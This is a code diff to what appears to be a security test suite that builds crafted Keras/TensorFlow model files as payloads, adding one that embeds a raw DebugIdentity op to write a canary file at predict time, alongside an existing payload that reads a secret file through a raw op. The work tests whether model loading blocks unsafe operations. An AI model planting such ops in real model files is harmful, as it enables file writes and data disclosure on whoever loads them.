@@ -108,7 +108,11 @@ def _tf_op(keras: Any, function: str) -> Callable[[], dict[str, Any]]:
         for layer in _layers(config):
             if layer["class_name"] == "TFOpLambda":
                 layer["config"]["function"] = function
+                old_name = layer["name"]
                 layer["config"]["name"] = layer["name"] = "tf." + function
+                config["config"]["output_layers"] = [
+                    [layer["name"]] + list(entry[1:]) if entry[0] == old_name else entry
+                    for entry in config["config"]["output_layers"]]
                 for node in layer["inbound_nodes"]:
                     for entry in ([node] if isinstance(node[0], str) else node):
                         if len(entry) > 3:
@@ -245,6 +249,33 @@ def _node_def_variant(keras: Any, node_def: dict[str, Any]) -> Callable[[], dict
         return config
 
     return build
+
+
+def _debug_identity(keras: Any, canary: str) -> Callable[[], dict[str, Any]]:
+    """A raw ``DebugIdentity`` op whose ``debug_urls`` make it write a dump under ``canary`` at predict time."""
+
+    def b64(text: str) -> str:
+        import base64
+
+        return base64.b64encode(text.encode("utf-8")).decode("ascii")
+
+    return _node_def_variant(keras, {"name": "payload", "op": "DebugIdentity", "input": ["input_1"],
+                                     "attr": {"T": {"type": "DT_FLOAT"}, "tensor_name": {"s": b64("input_1:0")},
+                                              "debug_urls": {"list": {"s": [b64("file://" + canary)]}}}})
+
+
+def _written_at_predict(canary: str) -> Callable[[Any], bool]:
+    def effect(model: Any) -> bool:
+        if model is not None:
+            import tensorflow as tf
+
+            try:
+                model(tf.constant([[1.0, 2.0]]))
+            except Exception:  # noqa: BLE001
+                pass
+        return os.path.exists(canary)
+
+    return effect
 
 
 def _has_dense_features(keras: Any) -> bool:
@@ -432,6 +463,9 @@ def payloads(keras: Any, workdir: str) -> list[Payload]:
                              lambda model: _op_symbol(model, ["LinearOperatorFullMatrix"])))
         found.append(Payload("node_def_readfile", "op layer: raw NodeDef op outside the pure-op list (runs at predict)",
                              _file_reader(keras, secret_file, True), _output_discloses("kd-secret")))
+        found.append(Payload("node_def_debug_identity",
+                             "op layer: raw NodeDef op outside the pure-op list (writes at predict)",
+                             _debug_identity(keras, canary), _written_at_predict(canary)))
         found.append(Payload("node_def_list_func_attr", "op layer: raw NodeDef with a function list attribute",
                              _node_def_variant(keras, {"name": "payload", "op": "Identity", "input": ["input_1"],
                                                        "attr": {"T": {"type": "DT_FLOAT"},
@@ -501,15 +535,25 @@ def _base_layer(keras: Any) -> Any:
     return None
 
 
-def h5_with_config(keras: Any, path: str, config: dict[str, Any], training_config: dict[str, Any] | None = None) -> str:
-    """An HDF5 model file of this release whose ``model_config`` is ``config``."""
+def h5_with_config(keras: Any, path: str, config: dict[str, Any], training_config: dict[str, Any] | None = None,
+                   weights: bool = False) -> str:
+    """An HDF5 model file of this release whose ``model_config`` is ``config``.
+
+    Without ``weights`` the file holds no weights, so that a payload model
+    without weights loads whole; with it, the weights of a ``Dense(2)`` on a
+    2-wide input.
+    """
     import h5py
+    import numpy as np
 
     inputs = keras.Input(shape=(2,))
     model = keras.Model(inputs, keras.layers.Dense(2)(inputs))
     model.save(path)
     with h5py.File(path, "r+") as handle:
         handle.attrs["model_config"] = json.dumps(config).encode("utf-8")
+        if not weights:
+            group = handle["model_weights"] if "model_weights" in handle else handle
+            group.attrs["layer_names"] = np.array([], dtype="S1")
         if training_config is not None:
             handle.attrs["training_config"] = json.dumps(training_config).encode("utf-8")
     return path
